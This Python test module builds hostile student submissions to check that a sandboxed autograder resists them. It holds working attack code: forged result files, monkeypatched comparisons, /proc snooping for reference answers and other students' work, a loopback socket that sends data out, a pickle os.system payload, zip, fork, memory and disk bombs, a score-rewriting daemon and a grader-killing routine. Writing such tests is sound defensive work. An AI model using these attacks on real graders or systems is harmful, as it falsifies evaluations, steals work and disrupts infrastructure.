"""Hostile submissions: one per known attack on an autograder.

Each hostile submission is the *partial* submission (the solution's student modules, except
``optim.py``, which is the released stub: every update rule raises NotImplementedError) with
an attack added to ``optim.py``: module-level code (it runs when the worker imports optim)
and/or replacements of the update rules. The honest score of every one of them is the
partial submission's score: all points but the optim cases'. An attack that worked would
show as a different score (several attacks switch on a correct ``sgd_momentum`` when they
succeed, so success is visible as points), a crash of the grader, a missing result, or (for
the daemon) a process left running.

Placeholders (``string.Template``): ``$REFERENCE`` (the absolute path of a reference file),
``$RESULTS`` (the results directory), ``$PORT`` (a TCP port on the host's loopback where the
test listens), ``$MARKER`` (a unique string the daemon carries in its command line).
"""

import shutil
import string
from pathlib import Path

# A correct sgd_momentum that only works once an attack succeeded (SUCCESS = True).
_SWITCH = '''

SUCCESS = False


def sgd_momentum(w, dw, config=None):
    if not SUCCESS:
        raise NotImplementedError("sgd_momentum: the attack did not work")
    config = _start(w, dw, config, {"learning_rate": 1e-2, "momentum": 0.9})
    v = config["momentum"] * _state(config, "velocity", w) - config["learning_rate"] * dw
    config["velocity"] = v
    return (w + v).astype(w.dtype, copy=False), config
'''

ATTACKS = {
    "write_results_json": ("writes a perfect results.json wherever it can", r'''
import json, os
_fake = {"score": 1000.0, "tests": [{"name": "pwned", "score": 1000.0, "max_score": 1.0, "status": "passed"}]}
for _d in ["$RESULTS", "$RESULTS/hostile_write_results_json", "/autograder/results", os.getcwd(),
           os.path.dirname(os.getcwd()), "/io", "/io/out"]:
    for _name in ("results.json", "grades.csv", "report.json"):
        try:
            os.makedirs(_d, exist_ok=True)
            with open(os.path.join(_d, _name), "w") as _f:
                json.dump(_fake, _f)
        except OSError:
            pass
'''),
    "exit_early_sys": ("calls sys.exit(0) when imported", r'''
import sys
sys.exit(0)
'''),
    "exit_early_os": ("calls os._exit(0) in the middle of a case", r'''

def nesterov(w, dw, config=None):
    import os
    os._exit(0)
'''),
    "monkeypatch": ("monkeypatches numpy and builtins to make every comparison pass", _SWITCH + r'''
import builtins, numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.abs = lambda x, *a, **k: np.zeros(np.shape(x))
np.max = lambda *a, **k: 0.0
np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.float = lambda *a: 0.0


def adam(w, dw, config=None):
    return w, config
'''),
    "lying_objects": ("returns objects whose comparisons and conversions lie", r'''
import numpy as np


class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __lt__(self, other):
        return True
    def __le__(self, other):
        return True
    def __abs__(self):
        return np.zeros(self.shape).view(Liar)
    def __sub__(self, other):
        return np.zeros(self.shape).view(Liar)
    def __float__(self):
        return 0.0


class Opaque:
    shape = (4, 5)
    dtype = np.dtype("float64")
    def __eq__(self, other):
        return True
    def __array__(self, *a, **k):
        return np.zeros(self.shape)


def sgd_momentum(w, dw, config=None):
    return np.zeros_like(w).view(Liar), config


def nesterov(w, dw, config=None):
    return Opaque(), config


def adagrad(w, dw, config=None):
    return [Opaque()], config


def rmsprop(w, dw, config=None):
    return np.array([object()] * w.size).reshape(w.shape), config
'''),
    "read_reference": ("opens the reference values by their absolute path", _SWITCH + r'''
import os
for _p in ("$REFERENCE", os.path.join(os.path.dirname("$REFERENCE"), ".."), "/autograder/source/reference"):
    try:
        with open(_p, "rb") as _f:
            _f.read(16)
        SUCCESS = True
    except OSError:
        pass
    try:
        os.listdir(_p)
        SUCCESS = True
    except OSError:
        pass
'''),
    # $SCOPE: where a find counts. "/" where the sandbox hides the host (bubblewrap, Landlock); the test's own
    # directory in the seccomp mode, where the file wall is permissions and any world-readable file of the host
    # (a checkout of the solution, another user's files) is readable by design (docs/grading.md).
    "steal_work": ("reads another student's code: paths from every /proc/<pid>/cmdline, then their optim.py",
                   _SWITCH + r'''
import os
_seen = []
try:
    _pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    _pids = []
for _pid in _pids:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _args = _f.read().decode(errors="replace").split("\0")
    except OSError:
        continue
    _seen += [a for a in _args if a.startswith("/")]
_seen.append("$SUBMISSIONS")
for _arg in dict.fromkeys(_seen):
    for _root, _dirs, _files in os.walk(_arg) if os.path.isdir(_arg) else ():
        if "optim.py" not in _files or _root.startswith("/proc") or not _root.startswith("$SCOPE"):
            continue
        try:
            with open(os.path.join(_root, "optim.py")) as _f:
                _text = _f.read()
        except OSError:
            continue
        # another student's full work: its sgd_momentum is written, not a TODO
        if "def sgd_momentum" in _text and "attack" not in _text and 'NotImplementedError("sgd_momentum' not in _text:
            SUCCESS = True
'''),
    "socket": ("opens a socket to a server on the host's loopback", _SWITCH + r'''
import socket
try:
    _s = socket.create_connection(("127.0.0.1", $PORT), timeout=2)
    _s.sendall(b"exfiltrated")
    _s.close()
    SUCCESS = True
except OSError:
    pass
'''),
    "fork_bomb": ("forks without end in an update rule", r'''

def adam(w, dw, config=None):
    import os
    if w.ndim == 2:  # the public case: no bomb (one bomb per batch keeps the test short)
        raise NotImplementedError("adam")
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''),
    "memory_bomb": ("allocates memory until it runs out", r'''

def adam(w, dw, config=None):
    blocks = []
    for _ in range(64):  # at most 4 GiB even where no limit held
        blocks.append(bytearray(64 << 20))
    return w, config


def rmsprop(w, dw, config=None):
    import numpy as np
    return np.ones((1 << 40,)), config
'''),
    "infinite_loop": ("loops forever in an update rule", r'''

def nesterov(w, dw, config=None):
    if w.ndim == 2:  # the public case raises; the hidden one never returns
        raise NotImplementedError("nesterov")
    while True:
        pass
'''),
    "output_flood": ("prints 100 MB", r'''
import sys, os
_chunk = "x" * (1 << 20)
for _ in range(50):
    sys.stdout.write(_chunk)
    sys.stderr.write(_chunk)
sys.stdout.flush()
'''),
    "nan_inf": ("returns NaN and inf", r'''
import numpy as np


def sgd_momentum(w, dw, config=None):
    return w * np.nan, config


def nesterov(w, dw, config=None):
    return w + np.inf, config


def adam(w, dw, config=None):
    out = w.copy()
    out.flat[0] = -np.inf
    return out, config
'''),
    "pickled_outputs": ("replaces outputs.npz with a pickled object array and exits", r'''
import os, sys, pickle
import numpy as np


class Boom:
    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/pwned-by-pickle",))


def _out_dir():
    argv = sys.argv
    return argv[argv.index("--out") + 1] if "--out" in argv else os.getcwd()


def sgd_momentum(w, dw, config=None):
    arr = np.empty(1, dtype=object)
    arr[0] = Boom()
    names = {f"c{i:03d}.w_steps": arr for i in range(20)}
    names.update({f"c{i:03d}.state_velocity": arr for i in range(20)})
    names["__done__"] = np.array(1)
    with open(os.path.join(_out_dir(), "outputs.npz"), "wb") as f:
        np.savez(f, **names)
    os._exit(0)
'''),
    "zip_bomb": ("replaces outputs.npz with a zip bomb whose headers lie, and exits", r'''
import os, sys, struct, zlib, zipfile, io


def _out_dir():
    argv = sys.argv
    return argv[argv.index("--out") + 1] if "--out" in argv else os.getcwd()


def _bomb(path, names, mebibytes=256):
    # Members that inflate to `mebibytes` MiB of zeros each while their headers claim 128 bytes.
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    zero = bytes(1 << 24)
    data = b"".join(comp.compress(zero) for _ in range(mebibytes // 16)) + comp.flush()
    with open(path, "wb") as f:
        central = b""
        for name in names:
            crc = 0
            header_offset = f.tell()
            fname = name.encode()
            # local header: declares an uncompressed size of 128 bytes
            f.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), 128, len(fname), 0))
            f.write(fname)
            f.write(data)
            central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), 128,
                                   len(fname), 0, 0, 0, 0, 0, header_offset) + fname
        start = f.tell()
        f.write(central)
        f.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(names), len(names), len(central), start, 0))


def adagrad(w, dw, config=None):
    _bomb(os.path.join(_out_dir(), "outputs.npz"), [f"c{i:03d}.w_steps.npy" for i in range(10)] + ["__done__.npy"])
    os._exit(0)


def adam(w, dw, config=None):
    # A zip that declares a million members.
    path = os.path.join(_out_dir(), "outputs.npz")
    with open(path, "wb") as f:
        f.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65000, 65000, 0, 0, 0))
    os._exit(0)
'''),
    "fifo_files": ("turns its progress and outputs files into FIFOs (a parent that opened them would block)", r'''
import os, sys, time


def _out_dir():
    argv = sys.argv
    return argv[argv.index("--out") + 1] if "--out" in argv else os.getcwd()


def adagrad(w, dw, config=None):
    for name in ("progress", "outputs.npz"):
        path = os.path.join(_out_dir(), name)
        try:
            os.remove(path)
        except OSError:
            pass
        os.mkfifo(path)
    time.sleep(1.0)  # the parent polls the progress file meanwhile
    os._exit(0)
'''),
    "disk_fill": ("fills its output directory and its /tmp with files", r'''
import os, sys


def _out_dir():
    argv = sys.argv
    return argv[argv.index("--out") + 1] if "--out" in argv else os.getcwd()


def rmsprop(w, dw, config=None):
    block = b"x" * (1 << 20)
    for d in ("/tmp", _out_dir()):
        for i in range(2000):  # at most 2 GB per directory even where nothing stops it
            try:
                with open(os.path.join(d, f"fill{i}"), "wb") as f:
                    for _ in range(1):
                        f.write(block)
            except OSError:
                break
    while True:
        pass
'''),
    "daemon": ("leaves a double-forked setsid daemon that rewrites every results.json after grading", r'''
import os, sys, time
_code = """
import glob, json, sys, time
fake = {"score": 1000.0, "tests": [{"name": "pwned", "score": 1000.0, "max_score": 1.0, "status": "passed"}]}
end = time.time() + 60
while time.time() < end:
    for path in glob.glob(sys.argv[1] + "/*/results.json"):
        try:
            with open(path, "w") as f:
                json.dump(fake, f)
        except OSError:
            pass
    time.sleep(0.1)
"""
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                os.execv(sys.executable, [sys.executable, "-c", _code, "$RESULTS", "$MARKER"])
            finally:
                os._exit(0)
        os._exit(0)
except OSError:
    pass
time.sleep(0.2)
'''),
    "sleep_children": ("starts 64 sleep processes, each in a new session", r'''
import os, subprocess
for _ in range(64):
    try:
        subprocess.Popen(["sleep", "1000"], start_new_session=True, env={"PATH": "/usr/bin:/bin", "M": "$MARKER"},
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
'''),
    "proc_snoop": ("reads the reference values found through /proc/<ppid>/{cwd,cmdline,environ}", _SWITCH + r'''
import os
_seen, _pids = [], {os.getppid(), 1}
try:
    _pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
except OSError:
    pass
for _pid in _pids:
    for _what in ("cwd", "root"):
        try:
            _seen.append(os.readlink(f"/proc/{_pid}/{_what}"))
        except OSError:
            pass
    for _what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _seen += [s.decode(errors="replace").split("=", 1)[-1] for s in _f.read().split(b"\0")]
        except OSError:
            pass
for _path in _seen:
    for _cand in (os.path.join(_path, "reference", "optim.npz"), os.path.join(_path, "autograder", "reference",
                  "optim.npz"), _path):
        try:
            if _cand.endswith(".npz") or os.path.isdir(os.path.join(_cand, "reference")):
                _target = _cand if _cand.endswith(".npz") else os.path.join(_cand, "reference", "optim.npz")
                with open(_target, "rb") as _f:
                    if _f.read(2) == b"PK":
                        SUCCESS = True
        except OSError:
            pass
'''),
    "kill_grader": ("finds the grader through /proc and kills it (kill, pidfd, tgkill)", _SWITCH + r'''
import ctypes, os, signal
_libc = ctypes.CDLL(None, use_errno=True)
_targets = {os.getppid()}
try:
    for _pid in os.listdir("/proc"):
        if _pid.isdigit() and int(_pid) != os.getpid():
            try:
                with open(f"/proc/{_pid}/cmdline", "rb") as _f:
                    if b"grader" in _f.read():
                        _targets.add(int(_pid))
            except OSError:
                pass
except OSError:
    pass
for _pid in _targets:
    for _try in (lambda p: os.kill(p, signal.SIGKILL),
                 lambda p: signal.pidfd_send_signal(os.pidfd_open(p), signal.SIGKILL),
                 lambda p: _libc.syscall(234, p, p, signal.SIGKILL),  # tgkill on x86_64
                 lambda p: os.killpg(os.getpgid(p), signal.SIGKILL)):
        try:
            _try(_pid)
        except OSError:
            pass
'''),
    "kill_parent": ("signals its parent and every process it can see", _SWITCH + r'''
import os, signal
for _target in (os.getppid(), 1):
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError:
        pass
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            with open(f"/proc/{_pid}/cmdline", "rb") as _f:
                if b"grader" in _f.read():
                    os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
'''),
}

# Crashes inside one function: each attack body replaces the first function of the optim group in
# the full solution; its honest twin raises NotImplementedError there instead. The attack must cost
# exactly what the twin costs (that function's cases), never the group's other functions.
CRASH_FUNCTION = "sgd_momentum"
CRASHES = {
    "crash_twin": "raise NotImplementedError('sgd_momentum: left as a TODO')",
    "crash_exit": "import os\n    os._exit(0)",
    "crash_segfault": "import ctypes\n    ctypes.string_at(0)",
    "crash_kill_self": "import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)",
    "crash_hang": "while True:\n        pass",
}

# Crashes inside a function that another graded function calls in some of its cases only:
# ``LinearClassifier.loss`` serves the SVM cases (``layers.svm_loss``) and the softmax cases
# (``layers.softmax_loss``). Each body replaces ``softmax_loss`` in the full solution's layers.py; its
# honest twin raises NotImplementedError there instead. The crash must cost exactly what the twin costs:
# every case that calls softmax_loss, never the SVM cases of the same function.
SHARED_CRASH_FUNCTION = "softmax_loss"
SHARED_CRASHES = {
    "softmax_twin": "raise NotImplementedError('softmax_loss: left as a TODO')",
    "softmax_exit": "import os\n    os._exit(0)",
    "softmax_segfault": "import ctypes\n    ctypes.string_at(0)",
    "softmax_kill_self": "import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)",
}


def copy_solution(solution_package, student_modules, dest):
    """The solution's student-owned modules under ``dest/assignment``."""
    dest = Path(dest)
    for rel in student_modules:
        target = dest / "assignment" / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(Path(solution_package) / rel, target)
    return dest


def make_crash(solution_package, student_modules, dest, name):
    """The full solution with CRASH_FUNCTION's body replaced by ``CRASHES[name]``."""
    dest = copy_solution(solution_package, student_modules, dest)
    path = dest / "assignment" / "optim.py"
    path.write_text(path.read_text() + f"\n\ndef {CRASH_FUNCTION}(w, dw, config=None):\n    {CRASHES[name]}\n")
    return dest


def make_shared_crash(solution_package, student_modules, dest, name):
    """The full solution with SHARED_CRASH_FUNCTION's body (in layers.py) replaced by ``SHARED_CRASHES[name]``."""
    dest = copy_solution(solution_package, student_modules, dest)
    path = dest / "assignment" / "layers.py"
    path.write_text(path.read_text() + f"\n\ndef {SHARED_CRASH_FUNCTION}(x, y):\n    {SHARED_CRASHES[name]}\n")
    return dest


def make_partial(solution_package, student_modules, stub_optim, dest):
    """The honest baseline: the solution's modules with the released (stub) optim.py."""
    dest = copy_solution(solution_package, student_modules, dest)
    shutil.copyfile(stub_optim, dest / "assignment" / "optim.py")
    return dest


def make_hostile(solution_package, student_modules, stub_optim, dest, name, **values):
    dest = make_partial(solution_package, student_modules, stub_optim, dest)
    _, code = ATTACKS[name]
    code = string.Template(code).safe_substitute(**{k: str(v) for k, v in values.items()})
    path = dest / "assignment" / "optim.py"
    path.write_text(path.read_text() + "\n\n# ---- attack: " + name + " ----\n" + code)
    return dest
